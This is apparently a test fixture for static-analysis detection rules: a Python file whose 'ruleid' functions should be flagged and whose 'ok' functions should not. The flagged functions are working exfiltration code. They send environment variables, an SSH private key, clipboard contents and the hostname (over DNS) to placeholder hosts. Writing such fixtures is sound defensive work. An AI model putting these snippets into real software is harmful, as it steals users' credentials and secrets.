@@ -1,0 +1,77 @@
+# path: pkg/client.py
+import json
+import os
+import socket
+from pathlib import Path
+
+import paramiko
+import pyperclip
+import requests
+
+
+def harvest():
+    # ruleid: py-behaviour-environment-sent
+    requests.post("https://hooks.example/c", data=json.dumps(dict(os.environ)))
+
+
+def keys():
+    blob = (Path.home() / ".ssh" / "id_rsa").read_text()
+    s = socket.socket()
+    s.connect(("198.51.100.4", 443))
+    # ruleid: py-behaviour-credential-file-sent
+    s.sendall(blob.encode())
+
+
+def clip():
+    # ruleid: py-behaviour-clipboard-sent
+    requests.post("https://paste.example/api", json={"c": pyperclip.paste()})
+
+
+def ping_home():
+    label = socket.gethostname().encode().hex()
+    # ruleid: py-behaviour-dns-exfil
+    socket.gethostbyname(f"{label}.t.example.net")
+
+
+def send(url, payload):
+    return requests.post(url, data=payload, timeout=10)
+
+
+def wrapped():
+    # ruleid: py-behaviour-environment-sent
+    send("https://collect.example/e", str(os.environ))
+
+
+def api():
+    token = os.environ["GITHUB_TOKEN"]
+    base = os.environ.get("API_URL", "https://api.github.com")
+    # ok: py-behaviour-secret-sent
+    return requests.get(base + "/user", headers={"Authorization": f"token {token}"})
+
+
+def local_ip():
+    # ok: py-behaviour-dns-exfil
+    return socket.gethostbyname(socket.gethostname())
+
+
+def post_metrics(url, payload):
+    # ok: py-behaviour-environment-sent
+    return requests.post(url, json=payload, timeout=float(os.environ.get("TIMEOUT", "5")))
+
+
+def user_agent():
+    # ok: py-behaviour-identity-sent
+    return requests.get("https://api.example/v1", headers={"User-Agent": f"pkg ({os.name})"})
+
+
+def deploy(host):
+    client = paramiko.SSHClient()
+    client.load_system_host_keys()
+    # ok: py-behaviour-credential-file-sent
+    client.connect(host, username="deploy", key_filename=os.path.expanduser("~/.ssh/id_rsa"))
+
+
+def shout():
+    text = pyperclip.paste()
+    # ok: py-behaviour-clipboard-sent
+    pyperclip.copy(text.upper())
